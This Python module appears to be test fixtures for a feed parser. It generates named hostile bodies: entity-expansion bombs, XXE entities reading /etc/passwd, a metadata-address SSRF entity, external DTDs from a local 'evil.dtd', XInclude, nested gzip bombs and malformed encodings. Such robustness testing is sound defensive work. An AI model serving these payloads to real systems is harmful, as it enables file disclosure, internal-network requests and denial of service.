"""Bodies that somebody serves to hurt whoever reads them, each with a name.

    BODIES["billion laughs"].make()   # the bytes as served; `headers` go with them

They are made when asked for: together they are some 150 MB. Most are a feed in some way, so that
a reader has a reason to go on.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

MEGABYTE = 1_000_000
XML = '<?xml version="1.0" encoding="utf-8"?>'
GOOD_ITEM = "<item><guid>https://h.example/1</guid><title>Ten deported children</title></item>"
SURROGATE = "&#55357;&#56832;"
ZALGO = "".join(map(chr, range(0x300, 0x370)))
NAMES = (
    "content media dc itunes sy slash atom georss yandex creativeCommons feedburner thr wfw".split()
)


@dataclass(frozen=True)
class Hostile:
    """How to make a hostile body, and how it is served; `zipped`: as gzip, as it is too large.

    `takes_long`: to make or to parse, so that it is left to the long test.
    """

    make: Callable[[], bytes]
    headers: Mapping[str, str] = field(default_factory=dict)
    zipped: bool = False
    takes_long: bool = False


def rss(items: str = GOOD_ITEM, head: str = "", *, before: str = "", root: str = "") -> bytes:
    """Write an RSS feed around something hostile; `before` stands before the root element."""
    return (
        f'{XML}{before}<rss version="2.0"{root}><channel><title>Hostile</title>{head}{items}'
        "</channel></rss>"
    ).encode("utf-8", "surrogatepass")


def item(inside: str) -> str:
    """Write an item around something hostile."""
    return f"<item><guid isPermaLink='false'>1</guid>{inside}</item>"


def titled(title: str) -> bytes:
    """Write a feed with one item, whose title is hostile."""
    return rss(item(f"<title>{title}</title>"))


def described(text: str) -> bytes:
    """Write a feed with one item, whose description is hostile."""
    return rss(item(f"<title>Hostile</title><description>{text}</description>"))


def with_types(declarations: str, text: str) -> bytes:
    """Write a feed with a document type, and a text that uses what that declares."""
    return rss(item(f"<title>{text}</title>"), before=f"<!DOCTYPE rss [{declarations}]>")


def escaped(text: str, layers: int) -> str:
    """Escape markup so many times."""
    for _ in range(layers):
        text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text


def json_feed(items: object, **more: object) -> bytes:
    """Write a JSON feed."""
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Hostile", "items": items}
    return json.dumps({**feed, **more}).encode()


# ---------------------------------------------------------------- entities and document types


def _laughs() -> bytes:
    tenfold = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(10))
    return with_types(f'<!ENTITY l0 "ha">{tenfold}', "&l10;")


def _quadratic_laughs() -> bytes:
    return with_types(f'<!ENTITY a "{"b" * 100_000}">', "&a;" * 100_000)


def _short_quadratic_laughs() -> bytes:
    return with_types(f'<!ENTITY a "{"b" * 250}">', "&a;" * 1_000_000)


def _recursive_laughs() -> bytes:
    return with_types('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;" * 1_000)


def _parameter_laughs() -> bytes:
    tenfold = "".join(
        f"<!ENTITY &#37; p{n + 1} '{f'&#37;p{n};' * 10}'>%p{n};" for n in range(10)
    ).replace("&#37; ", "% ")
    return with_types(f"<!ENTITY % p0 'ha'>{tenfold}", "x")


def _external(target: str) -> bytes:
    return with_types(f'<!ENTITY x SYSTEM "{target}">', "&x;")


def _external_type(target: str) -> bytes:
    return rss(before=f'<!DOCTYPE rss SYSTEM "{target}">')


def _external_parameter() -> bytes:
    return with_types('<!ENTITY % x SYSTEM "http://127.0.0.1:9/evil.dtd">%x;', "&y;")


def _inclusion() -> bytes:
    include = '<xi:include href="file:///etc/passwd" parse="text"/>'
    return rss(
        item(f"<title>{include}</title>"), root=' xmlns:xi="http://www.w3.org/2001/XInclude"'
    )


ENTITIES = {
    "billion laughs": Hostile(_laughs),
    "quadratic laughs": Hostile(_quadratic_laughs),
    "a million short entities": Hostile(_short_quadratic_laughs, takes_long=True),
    "entities that name each other": Hostile(_recursive_laughs),
    "laughs in parameter entities": Hostile(_parameter_laughs),
    "an entity from a file": Hostile(lambda: _external("file:///etc/passwd")),
    "an entity from a device": Hostile(lambda: _external("file:///dev/zero")),
    "an entity from inside the network": Hostile(lambda: _external("http://169.254.169.254/")),
    "a document type from the network": Hostile(lambda: _external_type("http://127.0.0.1:9/a.dtd")),
    "a parameter entity from the network": Hostile(_external_parameter),
    "a file included": Hostile(_inclusion),
    "an entity cut off": Hostile(
        lambda: XML.encode() + b"<!DOCTYPE rss [<!ENTITY a " + b"x" * 112_000
    ),
    "document types without end": Hostile(lambda: rss(before="<!DOCTYPE rss [" * 60_000)),
    "a million document types": Hostile(
        lambda: rss(before="<!DOCTYPE rss>" * 300_000), takes_long=True
    ),
    "a heap of entities": Hostile(
        lambda: with_types("".join(f'<!ENTITY e{n} "x">' for n in range(100_000)), "&e7;")
    ),
}

# ---------------------------------------------------------------- size, depth, number


def _many_attributes() -> bytes:
    attributes = "".join(f' a{n}=""' for n in range(1_000_000))
    return rss(f"<item{attributes}><title>x</title></item>")


def _many_namespaces() -> bytes:
    return rss(root="".join(f' xmlns:n{n}="urn:{n}"' for n in range(100_000)))


def _namespaces_anew() -> bytes:
    each = "".join(
        f'<n{n}:x xmlns:n{n}="urn:{n}" xmlns:{NAMES[n % len(NAMES)]}="urn:{n}"/>'
        for n in range(50_000)
    )
    return rss(item(each))


def _sitemap() -> bytes:
    urls = "".join(
        f"<url><loc>https://h.example/{n}</loc><news:news><news:publication><news:name>H"
        f"</news:name></news:publication><news:title>Deported children {n}</news:title>"
        "</news:news></url>"
        for n in range(50_000)
    )
    spaces = 'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"'
    return f"{XML}<urlset {spaces}>{urls}</urlset>".encode()


def _atom(entries: str) -> bytes:
    return f'{XML}<feed xmlns="http://www.w3.org/2005/Atom">{entries}</feed>'.encode()


SIZES = {
    "white space before the root, 5 MB": Hostile(
        lambda: XML.encode() + b" \n" * 2_400_000 + b"<rss/>"
    ),
    "newlines before the root": Hostile(lambda: rss(before="\n" * 80_000)),
    "nested 100,000 deep": Hostile(
        lambda: rss("<a>" * 100_000 + "</a>" * 100_000), takes_long=True
    ),
    "items in items": Hostile(lambda: rss("<item>" * 50_000 + "</item>" * 50_000), takes_long=True),
    "markup nested in a description": Hostile(
        lambda: described(escaped("<b>" * 200_000 + "x" + "</b>" * 200_000, 1))
    ),
    "a million attributes": Hostile(_many_attributes, zipped=True, takes_long=True),
    "an attribute of 4.9 MB": Hostile(
        lambda: rss(f'<item a="{"x" * 4_900_000}"><title>x</title></item>')
    ),
    "300,000 empty items": Hostile(lambda: rss("<item/>" * 300_000), takes_long=True),
    "300,000 items without an end": Hostile(
        lambda: rss("<item><title>x" * 300_000), takes_long=True
    ),
    "a hundred thousand different items": Hostile(
        lambda: rss("".join(f"<item><title>{n}</title></item>" for n in range(100_000))),
        takes_long=True,
    ),
    "items that share an id": Hostile(
        lambda: rss(
            "".join(f"<item><guid>1</guid><title>{n}</title></item>" for n in range(50_000))
        )
    ),
    "titles of a megabyte": Hostile(
        lambda: rss("".join(item(f"<title>{n}{'title ' * 160_000}</title>") for n in range(4)))
    ),
    "a title of 4.9 MB in one word": Hostile(lambda: titled("x" * 4_900_000)),
    "a link of 4.9 MB": Hostile(
        lambda: rss(item(f"<title>x</title><link>https://h.example/{'a' * 4_900_000}</link>")),
        takes_long=True,
    ),
    "100,000 categories": Hostile(
        lambda: rss(item("<title>x</title>" + "<category>x</category>" * 100_000))
    ),
    "100,000 links": Hostile(
        lambda: _atom(
            "<entry><id>1</id><title>x</title>"
            + "".join(f'<link href="https://h.example/{n}"/>' for n in range(100_000))
            + "</entry>"
        )
    ),
    "100,000 authors": Hostile(
        lambda: rss(item("<title>x</title>" + "<author>a@b.example (A)</author>" * 100_000)),
        takes_long=True,
    ),
    "100,000 namespaces at the root": Hostile(_many_namespaces),
    "namespaces declared anew": Hostile(_namespaces_anew, takes_long=True),
    "a news sitemap of 50,000": Hostile(_sitemap, zipped=True, takes_long=True),
    "instructions without number": Hostile(lambda: rss(before="<?x y?>" * 500_000)),
    "comments without number": Hostile(lambda: rss(before="<!--x-->" * 500_000)),
}

# ---------------------------------------------------------------- what never ends


ENDLESS = {
    "CDATA that never ends": Hostile(lambda: titled("<![CDATA[" + "x" * 2 * MEGABYTE)),
    "CDATA that begins without end": Hostile(lambda: titled("<![CDATA[" * 200_000)),
    "a comment that never ends": Hostile(lambda: rss(f"<!-- {'- ' * MEGABYTE}")),
    "comments that begin without end": Hostile(lambda: rss("<!--" * 200_000)),
    "a tag that never ends": Hostile(lambda: rss("<item " + "a " * MEGABYTE), takes_long=True),
    "tags that begin without end": Hostile(lambda: described("<" * MEGABYTE), takes_long=True),
    "quotes that begin without end": Hostile(lambda: described(escaped("<a b='" * 100_000, 1))),
    "an instruction that never ends": Hostile(lambda: rss("<?x " + "y " * MEGABYTE)),
    "a declaration that never ends": Hostile(lambda: b"<?xml " + b"a='b' " * 400_000),
    "ampersands without number": Hostile(lambda: described("&" * 2 * MEGABYTE), takes_long=True),
    "references without an end": Hostile(lambda: described("&#1" * 700_000), takes_long=True),
    "a reference of a million digits": Hostile(lambda: titled(f"&#{'9' * MEGABYTE};")),
    "brackets without number": Hostile(lambda: described("]]&gt;" * 500_000)),
}

# ---------------------------------------------------------------- characters and charsets


def _in_charset(charset: str, text: str = "", said: str = "") -> bytes:
    feed = rss(GOOD_ITEM + item(f"<title>{text or 'МКС видав ордер'}</title>")).decode()
    return feed.replace("utf-8", said or charset).encode(charset)


CHARACTERS = {
    "split surrogates": Hostile(lambda: titled(SURROGATE * 100_000)),
    "lone surrogates": Hostile(lambda: titled("&#xD83D; &#xDE00; &#55357;" * 50_000)),
    "surrogates as bytes": Hostile(lambda: titled("\ud83d\ude00\ud83d" * 50_000)),
    "NUL bytes": Hostile(lambda: titled("a\0b" * 100_000)),
    "nothing but NUL": Hostile(lambda: b"\0" * MEGABYTE),
    "references to controls": Hostile(lambda: titled("&#0;&#1;&#27;&#x1f;&#65535;" * 50_000)),
    "UTF-16 with a mark": Hostile(lambda: _in_charset("utf-16")),
    "UTF-16 without a mark": Hostile(lambda: _in_charset("utf-16-be", said="utf-16")),
    "UTF-16 cut in a character": Hostile(lambda: _in_charset("utf-16")[:-3]),
    "UTF-32 with a mark": Hostile(lambda: _in_charset("utf-32")),
    "UTF-32 without a mark, cut": Hostile(lambda: _in_charset("utf-32-le", said="utf-32")[:-2]),
    "a mark and nothing else": Hostile(lambda: b"\xff\xfe"),
    "UTF-16 by mark, UTF-8 by nature": Hostile(lambda: b"\xff\xfe" + rss()),
    "Windows-1251 that says UTF-8": Hostile(lambda: _in_charset("windows-1251", said="utf-8")),
    "a charset that is none": Hostile(lambda: rss().replace(b"utf-8", b"unicode_escape")),
    "a charset of a thousand letters": Hostile(lambda: rss().replace(b"utf-8", b"x" * 1_000)),
    "a charset that packs": Hostile(lambda: rss().replace(b"utf-8", b"zlib_codec")),
    "UTF-7": Hostile(lambda: _in_charset("utf-7")),
    "UTF-7 by header": Hostile(
        lambda: b"+ADw-rss+AD4-" * 10_000, {"Content-Type": "text/xml; charset=utf-7"}
    ),
    "overlong UTF-8": Hostile(lambda: titled("SPLIT").replace(b"SPLIT", b"\xc0\xbc\xe0\x80\xaf")),
    "UTF-8 with bytes missing": Hostile(lambda: titled("МКС" * 50_000).replace(b"\x9a", b"")),
    "half Latin-1, half UTF-8": Hostile(
        lambda: titled("МКС") + titled("été").decode().encode("latin-1")
    ),
    "every byte": Hostile(lambda: bytes(range(256)) * 8_000),
    "bidi overrides": Hostile(lambda: titled("\u202eevil\u2066x\u2069\u202c" * 50_000)),
    "zero-width characters": Hostile(lambda: titled("d\u200b\u200d\u2060\ufeffe" * 50_000)),
    "joiners without number": Hostile(lambda: described("\u200d\u200c" * 500_000)),
    "zalgo": Hostile(lambda: titled(("d" + ZALGO) * 5_000)),
    "control characters": Hostile(lambda: titled("\x07\x1b[31mred\x08" * 50_000)),
    "tag characters": Hostile(lambda: titled("".join(map(chr, range(0xE0000, 0xE0080))) * 500)),
    "markup escaped twenty times": Hostile(
        lambda: described(escaped("<script>alert('&amp;')</script>" * 500, 20))
    ),
    "one emoji in a megabyte": Hostile(lambda: described("x" * MEGABYTE + "😀")),
}

# ---------------------------------------------------------------- packed, and said to be


def zipped(size: int, times: int = 1) -> bytes:
    """Pack so many megabytes of zeros, so many times over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(b"\0" * MEGABYTE) for _ in range(size)) + packer.flush()
    for _ in range(times - 1):
        packed = gzip.compress(packed, 9)
    return packed


def _blanks() -> bytes:
    return XML.encode() + b" " * 14 * MEGABYTE + b"<rss/>"


PACKED = {
    "a gzip bomb of a gigabyte": Hostile(
        lambda: zipped(1_000), {"Content-Encoding": "gzip"}, takes_long=True
    ),
    "a gzip bomb of 809 bytes": Hostile(lambda: zipped(200, 2), {"Content-Encoding": "gzip, gzip"}),
    "a gzip bomb in a gzip bomb": Hostile(
        lambda: zipped(1_000, 2), {"Content-Encoding": "gzip"}, takes_long=True
    ),
    "14 MB of blanks, packed": Hostile(_blanks, zipped=True, takes_long=True),
    "gzip that is cut off": Hostile(
        lambda: gzip.compress(rss())[:-20], {"Content-Encoding": "gzip"}
    ),
    "gzip that is damaged": Hostile(
        lambda: (
            gzip.compress(rss(), mtime=0).replace(b"\0\0\0\0", b"\1\1\1\1", 1)[:40] + b"\xff" * 99
        ),
        {"Content-Encoding": "gzip"},
    ),
    "gzip in a thousand parts": Hostile(
        lambda: gzip.compress(b" ") * 1_000 + gzip.compress(rss()), {"Content-Encoding": "gzip"}
    ),
    "gzip that nobody told of": Hostile(lambda: gzip.compress(rss())),
    "not gzip, though it says so": Hostile(rss, {"Content-Encoding": "gzip"}),
    "brotli, which nobody asked for": Hostile(
        lambda: b"\xcf\xff\xff\x7f\xf8" * 160, {"Content-Encoding": "br"}
    ),
    "deflate, which nobody asked for": Hostile(
        lambda: zlib.compress(rss()), {"Content-Encoding": "deflate"}
    ),
}

# ---------------------------------------------------------------- something else than a feed


def _deep_json(size: int) -> bytes:
    return b'{"a":' + b"[" * size + b"]" * size + b"}"


def _json_items() -> bytes:
    return json_feed([{"id": number, "title": f"Item {number}"} for number in range(200_000)])


ODD_DATES = (
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "10000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z",
    "Mon, 99 Foo 2026 99:99:99 +9999",
    "NaN",
    "1e999",
    "9" * 5_000,
    "1 " * 20_000,
    "2026-" * 20_000,
    "٢٠٢٦-٠٣-٠١T١٢:٠٠:٠٠Z",
)


def _dated() -> bytes:
    dated = (
        f"<item><guid>{n}</guid><title>x</title><pubDate>{date}</pubDate></item>"
        for n, date in enumerate(ODD_DATES)
    )
    return rss("".join(dated), head="<ttl>1e999</ttl><skipHours><hour>-1</hour></skipHours>")


def _odd_numbers() -> bytes:
    ids = f'[{{"id":{"9" * 100_000}}},{{"id":NaN}},{{"id":-Infinity}},{{"id":1e999999}}]'
    return json_feed("ITEMS").replace(b'"ITEMS"', ids.encode())


def _odd_json() -> bytes:
    return json_feed(
        [{"id": ["x"], "title": {"a": 1}, "authors": {"name": 1}, "attachments": [[[]]], "url": 1}],
        title=["x"],
    )


def _page() -> bytes:
    links = '<link rel="alternate" type="application/rss+xml" href="/rss.xml">' * 50_000
    return f"<!doctype html><html><head><title>News</title>{links}</head></html>".encode()


OTHERS = {
    "a page": Hostile(_page, {"Content-Type": "text/html"}),
    "a page of open links": Hostile(
        lambda: b"<!doctype html><html>" + b"<link " * 400_000, {"Content-Type": "text/html"}
    ),
    "a PDF": Hostile(
        lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>\n" + bytes(range(256)) * 4_000,
        {"Content-Type": "application/pdf"},
    ),
    "a JPEG": Hostile(
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(255, 0, -1)) * 4_000,
        {"Content-Type": "image/jpeg"},
    ),
    "JSON nested 100,000 deep": Hostile(lambda: _deep_json(100_000)),
    "JSON of 4.9 MB nested without end": Hostile(lambda: b"[" * 4_900_000),
    "a JSON feed of 200,000": Hostile(_json_items, zipped=True, takes_long=True),
    "JSON with numbers that are none": Hostile(_odd_numbers),
    "a JSON feed of the wrong kinds": Hostile(_odd_json),
    "JSON cut off": Hostile(lambda: _json_items()[:MEGABYTE]),
    "dates that cannot be": Hostile(_dated),
    "OPML": Hostile(
        lambda: b"<opml><body>" + b'<outline xmlUrl="x"/>' * 50_000 + b"</body></opml>"
    ),
    "nothing at all": Hostile(lambda: b""),
    "blanks alone": Hostile(lambda: b" \n\t" * MEGABYTE),
    "one bracket": Hostile(lambda: b"<"),
}

GROUPS = (ENTITIES, SIZES, ENDLESS, CHARACTERS, PACKED, OTHERS)
BODIES: dict[str, Hostile] = {name: body for group in GROUPS for name, body in group.items()}
